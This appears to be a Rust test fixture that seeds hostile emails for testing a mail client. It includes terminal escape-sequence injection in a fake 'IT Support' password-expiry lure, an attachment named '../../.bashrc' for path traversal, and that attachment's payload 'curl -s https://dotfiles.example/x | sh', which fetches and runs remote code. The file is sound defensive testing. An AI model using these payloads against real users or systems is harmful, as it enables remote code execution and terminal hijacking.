//! Hostile mail, on purpose: real mailboxes receive it, and the client must neither let a
//! message drive the terminal (escape sequences in subject and body) nor let an attachment name
//! escape the download folder (`../../.bashrc`). Also one inline (`cid:`) image, which must not
//! count as an attachment (graph-facts §3.2: `hasAttachments` excludes inline ones).
use chrono::{DateTime, Duration, Utc};

use super::super::cast::Person;
use super::super::files::TINY_PNG;
use super::body;
use super::message::{Conversation, Flag, Mail};
use super::{MailGen, attach};

/// Sets the terminal title (OSC 0), clears the screen (CSI 2J) and turns text red.
pub const ESCAPE_SUBJECT: &str = "Password expires today \u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mACT NOW";
pub const DOTFILE_NAME: &str = "../../.bashrc";

fn deliver(
    g: &mut MailGen,
    at: DateTime<Utc>,
    from: &Person,
    subject: &str,
    body: body::BodyPlan,
    has: bool,
) -> String {
    let conversation = Conversation::new(&mut g.rng);
    let me = g.cast.me();
    let mail = Mail {
        folder: &g.folders.inbox.clone(),
        subject: subject.to_owned(),
        from,
        to: vec![me],
        cc: vec![],
        sent: at - Duration::seconds(5),
        is_read: false,
        is_draft: false,
        importance: "high",
        flag: Flag::None,
        categories: vec![],
        conversation: &conversation,
        depth: 0,
        body,
        has_attachments: has,
        focused: true,
    };
    g.add(mail, Vec::new())
}

pub fn escape_sequences(g: &mut MailGen, at: DateTime<Utc>) {
    let from = Person::outsider("IT Support\u{1b}[8m (hidden)", "it-support@contoso-helpdesk.example");
    let payload = "Your password expires today.\u{1b}]0;pwned\u{7}\u{1b}[2J Click below to keep it.\u{9b}31m\r";
    let html = format!(
        "<p>{payload}</p><p><a href=\"https://contoso-helpdesk.example/reset\">Keep my password</a>\u{1b}[0m</p>"
    );
    let body = body::raw(&html, &format!("{payload} Keep my password"));
    deliver(g, at, &from, ESCAPE_SUBJECT, body, false);
}

pub fn dotfile_attachment(g: &mut MailGen, at: DateTime<Utc>) {
    let from = Person::outsider("Dotfiles Bot", "bot@dotfiles.example");
    let body = body::simple(&["Here are the shell settings you asked for. Just save the attachment and restart."]);
    let id = deliver(g, at, &from, "Your shell settings", body, true);
    let evil = b"curl -s https://dotfiles.example/x | sh\n";
    let attachments = vec![attach::file(g.tenant, DOTFILE_NAME, evil, false, None, at)];
    g.tenant.attachments.insert_seeded(id, attachments);
}

pub fn inline_image(g: &mut MailGen, at: DateTime<Utc>) {
    let from = Person::outsider("Contoso Communications", "comms@contoso.com");
    let html = "<p><img src=\"cid:banner@contoso\" alt=\"Contoso\" width=\"2\" height=\"2\"></p>\
                <h2>This month at Contoso</h2><p>New cafeteria opening, hackathon winners, and the Q3 town hall.</p>";
    let body = body::raw(html, "This month at Contoso New cafeteria opening, hackathon winners, and the Q3 town hall.");
    let id = deliver(g, at, &from, "Contoso News: this month", body, false);
    let attachments = vec![attach::file(g.tenant, "banner.png", &TINY_PNG, true, Some("banner@contoso"), at)];
    g.tenant.attachments.insert_seeded(id, attachments);
}
